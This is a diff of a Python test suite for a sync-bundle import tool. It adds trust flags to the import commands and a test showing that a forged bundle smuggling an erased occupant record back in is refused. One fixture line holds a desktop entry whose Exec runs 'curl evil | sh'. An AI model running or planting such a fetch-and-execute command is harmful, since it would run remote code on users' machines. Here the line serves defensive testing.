@@ -29,7 +29,7 @@ from inspect_tui.domain.models import Occupant
 from inspect_tui.store import delete, get, open_db, save
 from inspect_tui.store.blobs import MAX_ATTACHMENT_BYTES
 from inspect_tui.store.bundles import snapshot_names
-from inspect_tui.sync import BundleError, import_bundles, limits, zipguard
+from inspect_tui.sync import BundleError, limits, zipguard
 from inspect_tui.sync.export import export_bundle
 from inspect_tui.sync.keys import set_central_key
 from inspect_tui.sync.layout import blob_member, member_limit
@@ -49,6 +49,7 @@ from tests.helpers.bundles import (
     run,
     settle,
 )
+from tests.helpers.bundles import trusting_import as import_bundles
 
 DESKTOP = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n"
 
@@ -79,6 +80,7 @@ class Lead:
 
     def forge(self, **kwargs: object) -> bytes:
         info = {"Bundle-Id": str(uuid.uuid4()), **kwargs.pop("info", {})}  # type: ignore[dict-item]
+        kwargs.setdefault("rehash", True)  # ids that verify, so the checks under test are reached
         return rebag(self.good, self.source_key, info=info, **kwargs)  # type: ignore[arg-type]
 
     def unchanged(self) -> None:
@@ -106,7 +108,7 @@ def lead(tmp_path: Path) -> Iterator[Lead]:
 
 
 def refused(cli: CliRunner, lead: Lead, bundle: Path, expected: str) -> str:
-    code, output = run(cli, "--db", str(lead.db_path), "import", str(bundle))
+    code, output = run(cli, "--db", str(lead.db_path), "import", "--trust-new", "--trust-role", "lead", str(bundle))
     assert code == 1, output
     lines = output.strip().splitlines()
     assert len(lines) == 1 and lines[0].startswith("Error: "), output
@@ -305,7 +307,9 @@ def test_the_last_three_snapshots_are_kept_owner_only(cli: CliRunner, tmp_path: 
     snapshot = Path(f"{tmp_path / 'target.db'}.pre-import.sqlite")
     names = snapshot_names(snapshot, 5)
     for number, bundle in enumerate(bundles):
-        code, output = run(cli, "--db", str(tmp_path / "target.db"), "import", str(bundle))
+        code, output = run(
+            cli, "--db", str(tmp_path / "target.db"), "import", "--trust-new", "--trust-role", "lead", str(bundle)
+        )
         assert code == 0, output
         assert [n.exists() for n in names[:3]] == [True] * min(number + 1, 3) + [False] * (2 - min(number, 2))
     assert not names[3].exists() and not names[4].exists()
@@ -315,7 +319,18 @@ def test_the_last_three_snapshots_are_kept_owner_only(cli: CliRunner, tmp_path: 
     assert conn.execute("SELECT COUNT(*) FROM bundles").fetchone()[0] == 4
     conn.close()
     more = _edit_and_export(source, tmp_path, 9)
-    code, output = run(cli, "--db", str(tmp_path / "target.db"), "import", "--keep-snapshots", "1", str(more))
+    code, output = run(
+        cli,
+        "--db",
+        str(tmp_path / "target.db"),
+        "import",
+        "--trust-new",
+        "--trust-role",
+        "lead",
+        "--keep-snapshots",
+        "1",
+        str(more),
+    )
     assert code == 0, output
     assert snapshot.exists() and not names[1].exists() and not names[2].exists()
     source.db.conn.close()
@@ -351,7 +366,9 @@ def test_removing_an_occupant_erases_their_personal_data_here_and_in_the_next_bu
     assert BSNS[0] not in text and EMAIL not in text and '"deleted":true' in text
     source.db.conn.close()
     assert not _bsn_anywhere(tmp_path / "source.db", BSNS[0])
-    code, output = run(cli, "--db", str(tmp_path / "target.db"), "import", str(second.path))
+    code, output = run(
+        cli, "--db", str(tmp_path / "target.db"), "import", "--trust-new", "--trust-role", "lead", str(second.path)
+    )
     assert code == 0, output
     assert "personal data of removed occupants was erased" in output
     assert target.db.execute("SELECT COUNT(*) FROM occupants WHERE id = ?", [source.ids["jan"]]).fetchone()[0] == 0
@@ -395,11 +412,15 @@ def test_plaintext_personal_data_arriving_where_a_central_key_is_set_is_warned_a
     with db.atomic():
         set_central_key(db, bytes(PrivateKey.generate().public_key).hex())
     db.conn.close()
-    code, output = run(cli, "--db", str(tmp_path / "central.db"), "import", str(full_bundle))
+    code, output = run(
+        cli, "--db", str(tmp_path / "central.db"), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)
+    )
     assert code == 0, output
     assert "WARNING: " in output and "UNENCRYPTED, although this database has a central key" in output
     code, output = run(cli, "--db", str(tmp_path / "plain.db"), "init")
-    code, output = run(cli, "--db", str(tmp_path / "plain.db"), "import", str(full_bundle))
+    code, output = run(
+        cli, "--db", str(tmp_path / "plain.db"), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)
+    )
     assert code == 0 and "WARNING" not in output, output
 
 
@@ -429,7 +450,7 @@ def test_a_second_writer_waits_for_the_first_instead_of_failing(tmp_path: Path, 
     try:
         assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
         done = subprocess.run(
-            [*_CLI, "--db", str(db_path), "import", str(full_bundle)],
+            [*_CLI, "--db", str(db_path), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)],
             capture_output=True,
             text=True,
             env=_ENV,
@@ -448,7 +469,7 @@ def test_a_second_writer_waits_for_the_first_instead_of_failing(tmp_path: Path, 
 def test_two_imports_of_the_same_bundle_at_once_both_succeed(tmp_path: Path, full_bundle: Path) -> None:
     db_path = tmp_path / "lead.db"
     make_device(db_path).db.conn.close()
-    command = [*_CLI, "--db", str(db_path), "import", str(full_bundle)]
+    command = [*_CLI, "--db", str(db_path), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)]
     first = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=_ENV)
     second = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=_ENV)
     results = [p.communicate(timeout=60) for p in (first, second)]
@@ -475,7 +496,18 @@ def test_trusted_keys_from_dev_zero_is_one_clear_line(tmp_path: Path, full_bundl
     db_path = tmp_path / "lead.db"
     make_device(db_path).db.conn.close()
     done = subprocess.run(
-        [*_CLI, "--db", str(db_path), "import", "--trusted-keys", "/dev/zero", str(full_bundle)],
+        [
+            *_CLI,
+            "--db",
+            str(db_path),
+            "import",
+            "--trust-new",
+            "--trust-role",
+            "lead",
+            "--trusted-keys",
+            "/dev/zero",
+            str(full_bundle),
+        ],
         capture_output=True,
         text=True,
         env=_ENV,
@@ -501,6 +533,9 @@ def test_a_closed_stdout_after_a_committed_import_is_not_an_error(tmp_path: Path
             "--db",
             str(db_path),
             "import",
+            "--trust-new",
+            "--trust-role",
+            "lead",
             str(full_bundle),
         ],
         capture_output=True,
@@ -519,3 +554,63 @@ def test_snapshot_names_number_older_copies(tmp_path: Path) -> None:
     names = snapshot_names(tmp_path / "x.db.pre-import.sqlite", 3)
     assert [n.name for n in names] == ["x.db.pre-import.sqlite", "x.db.pre-import.1.sqlite", "x.db.pre-import.2.sqlite"]
     assert shutil.which("bash")
+
+
+def test_an_erasure_travels_under_verified_ids_to_devices_that_never_saw_the_occupant(tmp_path: Path) -> None:
+    """Erased revisions no longer hash to their ids: only the deletion travels, and a receiver that
+    never saw its parents accepts it (ids verified, vouched by the origin), also when relayed."""
+    source = make_device(tmp_path / "source.db", device_id="source-1")
+    ids = populate(source.db)
+    delete(source.db, Occupant, ids["jan"])
+    erased_rev = source.db.execute(
+        "SELECT rev FROM changes WHERE record_id = ? AND deleted = 0", [ids["jan"]]
+    ).fetchone()[0]
+    everything = export_bundle(source.db, tmp_path / "all.zip", source.key, everything=True)
+    assert everything is not None
+    text = members(everything.path)["data/occupants.jsonl"].decode()
+    assert f'"rev":"{erased_rev}"' not in text, "the erased version does not travel"
+    newcomer = make_device(tmp_path / "newcomer.db", device_id="newcomer-2")
+    import_bundles(newcomer.db, [everything.path])
+    rows = newcomer.db.execute("SELECT base_rev, deleted FROM changes WHERE record_id = ?", [ids["jan"]]).fetchall()
+    assert rows == [(erased_rev, 1)], "the deletion is stored although its parent never arrived"
+    assert newcomer.db.execute("SELECT COUNT(*) FROM occupants WHERE id = ?", [ids["jan"]]).fetchone()[0] == 0
+    # relayed on: the newcomer's bundle carries the source's segment for the deletion
+    relayed = export_bundle(newcomer.db, tmp_path / "relayed.zip", newcomer.key, everything=True)
+    assert relayed is not None
+    third = make_device(tmp_path / "third.db", device_id="third-3")
+    import_bundles(third.db, [relayed.path])
+    assert third.db.execute("SELECT deleted FROM changes WHERE record_id = ?", [ids["jan"]]).fetchall() == [(1,)]
+    # a bundle that smuggles the blanked version back in is refused: its id does not verify
+    blanked = source.db.execute("SELECT data FROM changes WHERE rev = ?", [erased_rev]).fetchone()[0]
+    assert BSNS[0] not in blanked
+    smuggled = _smuggle(everything.path, source, erased_rev, blanked, tmp_path)
+    with pytest.raises(BundleError, match="not the hash of its content"):
+        import_bundles(make_device(tmp_path / "fourth.db").db, [smuggled])
+
+
+def _smuggle(bundle: Path, source: Device, rev: str, data: str, folder: Path) -> Path:
+    """Write smuggled.zip: the bundle with the erased (blanked) version of an occupant added back."""
+    gen = int(rev.split("-")[0])
+    base = source.db.execute("SELECT base_rev FROM changes WHERE rev = ?", [rev]).fetchone()[0]
+
+    def add(payload: dict[str, bytes]) -> dict[str, bytes]:
+        line = json.dumps(
+            {
+                "rev": rev,
+                "gen": gen,
+                "base_rev": base,
+                "merged": [],
+                "ancestors": [],
+                "origin": "source-1",
+                "deleted": False,
+                "record": json.loads(data),
+            },
+            separators=(",", ":"),
+        )
+        payload["data/occupants.jsonl"] = (line + "\n").encode() + payload["data/occupants.jsonl"]
+        return payload
+
+    count = len(members(bundle)["data/occupants.jsonl"].splitlines()) + 1
+    smuggled = rebag(bundle, source.key, payload=add, info={"Count-Occupants": str(count)})
+    (folder / "smuggled.zip").write_bytes(smuggled)
+    return folder / "smuggled.zip"
